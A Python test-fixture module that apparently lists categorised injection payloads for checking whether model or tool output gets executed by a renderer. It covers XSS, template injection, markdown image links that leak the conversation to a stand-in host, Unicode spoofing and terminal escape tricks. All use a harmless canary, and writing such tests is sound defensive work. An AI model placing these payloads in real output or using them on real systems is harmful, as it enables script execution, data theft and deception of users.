"""What a model or a tool might say to be taken for markup, for code, or for something else.

Each calls `canary`, or asks another server for something, if it is ever taken at its word. `{n}`
is its number: by it what is shown of it can be found.
"""

from typing import Final

_OUT: Final = "http://outside.invalid"  # a name that no server ever has

CLASSES: Final[dict[str, list[str]]] = {
    "script": [
        "<script>canary('{n}')</script>",
        "<ScRiPt >canary('{n}')</sCrIpT>",
        "<script src=%OUT%/{n}.js></script>",
        "</p></div></section></main><script>canary('{n}')</script>",
        "<script type=module>import '%OUT%/{n}.js'</script>",
        "<script>/*{n}",
        "*/canary('{n}')</script>",
        "<<script>canary('{n}')//<</script>",
        "<script\x0d\x0a>canary('{n}')</script>",
        "<noscript><p title=\"</noscript><script>canary('{n}')</script>\">",
        "</title><script>canary('{n}')</script>",
        "</textarea><script>canary('{n}')</script>",
        "</style><script>canary('{n}')</script>",
        "<script>canary`{n}`</script>",
        "<base href=%OUT%/><script src={n}.js></script>",
    ],
    "handlers": [
        "<img src=x onerror=canary('{n}')>",
        "<img src=x onerror=\"canary('{n}')\"/>",
        "<img src='x' onerror='canary(`{n}`)'",
        "<body onload=canary('{n}')>",
        "<input autofocus onfocus=canary('{n}')>",
        "<details open ontoggle=canary('{n}')>",
        "<video><source onerror=canary('{n}')></video>",
        "<audio src=x onerror=canary('{n}')>",
        "<marquee onstart=canary('{n}')>m</marquee>",
        "<select onfocus=canary('{n}') autofocus><option>x</select>",
        "<textarea onfocus=canary('{n}') autofocus>x",
        "<button popovertarget=x onclick=canary('{n}')>x</button>",
        "<div onpointerover=canary('{n}') style='position:fixed;inset:0'>x</div>",
        "<a onmouseover=canary('{n}')>over</a>",
        "<style onload=canary('{n}')>*{}</style>",
        "<div style=animation-name:spin onanimationstart=canary('{n}')>",
        "\" onmouseover=\"canary('{n}')\" x=\"",
        "' autofocus onfocus='canary(\"{n}\")' x='",
        "<img/src=x/onerror=canary('{n}')>",
        "<img src=x oneonerrorrror=canary('{n}')>",
    ],
    "urls": [
        "<a href=javascript:canary('{n}')>x</a>",
        "<a href='java\tscript:canary(`{n}`)'>x</a>",
        "<a href='&#106;avascript:canary(`{n}`)'>x</a>",
        "<a href=data:text/html,<script>parent.canary('{n}')</script>>x</a>",
        "javascript:canary('{n}')",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoJ3tufScpPC9zY3JpcHQ+ {n}",
        "<form action=javascript:canary('{n}')><input type=submit autofocus>",
        "<iframe src=javascript:parent.canary('{n}')></iframe>",
        "<iframe srcdoc=\"<script>parent.canary('{n}')</script>\">",
        "<object data=javascript:canary('{n}')>",
        "<embed src=javascript:canary('{n}')>",
        "<meta http-equiv=refresh content=\"0;url=javascript:canary('{n}')\">",
        "<meta http-equiv=refresh content='0;url=%OUT%/{n}'>",
        "<link rel=stylesheet href=%OUT%/{n}.css>",
        "<link rel=prefetch href=%OUT%/{n}>",
        "<link rel=dns-prefetch href=//outside.invalid>{n}",
        "vbscript:canary('{n}')",
    ],
    "svg": [
        "<svg onload=canary('{n}')>",
        "<svg><script>canary('{n}')</script></svg>",
        "<svg><script href=%OUT%/{n}.js /></svg>",
        "<svg><animate onbegin=canary('{n}') attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:canary('{n}')><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg onload=canary(`{n}`)>#x'></svg>",
        "<svg><foreignObject><img src=x onerror=canary('{n}')></foreignObject></svg>",
        "<svg><set attributeName=onmouseover to=canary('{n}')>",
        "<svg><image href=%OUT%/{n}.png /></svg>",
        "<svg><style>@import '%OUT%/{n}.css'</style></svg>",
    ],
    "mathml": [
        "<math><maction actiontype=statusline xlink:href=javascript:canary('{n}')>x</maction>",
        "<math href=javascript:canary('{n}')>x</math>",
        "<math><mtext><img src=x onerror=canary('{n}')></mtext></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=canary('{n}')>",
    ],
    "mutation": [
        "<noscript><p title='</noscript><img src=x onerror=canary(`{n}`)>'>",
        "<math><mtext><table><mglyph><style><!--</style><i title='--><img src onerror=canary({n})>",
        "<svg></p><style><a id='</style><img src=1 onerror=canary({n})>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary({n})>",
        "<listing>&lt;img src=x onerror=canary({n})&gt;</listing>",
        "<xmp><img src=x onerror=canary({n})></xmp>",
        "<template><img src=x onerror=canary({n})></template>",
        "<!--><img src=x onerror=canary({n})>-->",
        "<![CDATA[><img src=x onerror=canary({n})>]]>",
        "&lt;img src=x onerror=canary('{n}')&gt;",
        "&amp;lt;script&amp;gt;canary('{n}')&amp;lt;/script&amp;gt;",
        "&#x3c;img src=x onerror=canary('{n}')&#x3e;",
        "\\u003cimg src=x onerror=canary('{n}')\\u003e",
        "%3Cimg%20src=x%20onerror=canary('{n}')%3E",
        "＜img src=x onerror=canary('{n}')＞",
    ],
    "templates": [
        "${canary('{n}')}",
        "`${canary('{n}')}`",
        "{{constructor.constructor('canary({n})')()}}",
        "{{{canary('{n}')}}}",
        "#{canary('{n}')}",
        "<%= canary('{n}') %>",
        "{canary('{n}')}",
        "';canary('{n}');//",
        '");canary(\'{n}\');//',
        "\u2028canary('{n}')\u2029",
        '{"__html": "<img src=x onerror=canary({n})>"}',
        '{"__proto__": {"innerHTML": "<img src=x onerror=canary({n})>"}}',
        "\n\nevent: panel\ndata: {\"run\": \"{n}\"}\n\n",
        "id: 9999\nevent: bye\ndata: {} {n}",
    ],
    "markdown": [
        "![x](%OUT%/{n}.png)",
        "![x](%OUT%/{n}?q=the+whole+conversation)",
        "[click](javascript:canary('{n}'))",
        "[click](%OUT%/{n})",
        "<%OUT%/{n}>",
        "[x]: %OUT%/{n} \"t\"\n![x][x]",
        "```html\n<img src=x onerror=canary('{n}')>",
        "```\n</code></pre><script>canary('{n}')</script>",
        "~~~\n{n}\n<svg onload=canary('{n}')>",
        "<details><summary>{n}</summary><img src=x onerror=canary('{n}')></details>",
        "%OUT%/{n}",
        "[![x](%OUT%/{n}.png)](javascript:canary('{n}'))",
        "| {n} |\n|---|\n| <img src=x onerror=canary('{n}')> |",
    ],
    "disguises": [
        "\u202egnp.exe {n}\u202c",
        "rea\u200bd_file {n}",
        "r\u0435ad_file {n}",  # a Cyrillic letter
        "\u2066\u2067delete {n}\u2069\u2069",
        "\ufeff\u2060{n}\u00ad\u034f",
        "Z\u0351\u036b\u0343a\u0313l\u031ag\u0323o\u0334 {n}",
        "\U000e0041\U000e0042 {n}",
        "\u3164{n}\u115f\u1160",
        "a\u0300" * 200 + "{n}",
        "\x01{n}\x02\x7f",
    ],
    "terminals": [
        "\x1b]52;c;Y2FuYXJ5\x07 {n}",
        "\x1b]8;;%OUT%/{n}\x1b\\link\x1b]8;;\x1b\\",
        "\x1b[2K\x1b[1A\x1b[31mapproved {n}\x1b[0m",
        "\x9b2J\x9d0;title {n}\x9c",
        "real\rfake {n}",
        "abc\b\b\b{n}",
    ],
    "length": [
        "x" * 100_000 + "{n}",
        "\n" * 10_000 + "{n}",
        "<b>" * 5_000 + "{n}",
        " " * 5_000 + "{n}<img src=x onerror=canary('{n}')>",
    ],
}  # fmt: skip


def mark(number: int) -> str:
    return f"x{number:03}x"


def _marked(text: str, number: int) -> str:
    return text.replace("%OUT%", _OUT).replace("{n}", mark(number))


PAYLOADS: Final = [
    _marked(text, number)
    for number, text in enumerate(text for texts in CLASSES.values() for text in texts)
]
"""All of them. The n-th has a mark in it, `mark(n)`, by which it is found again."""
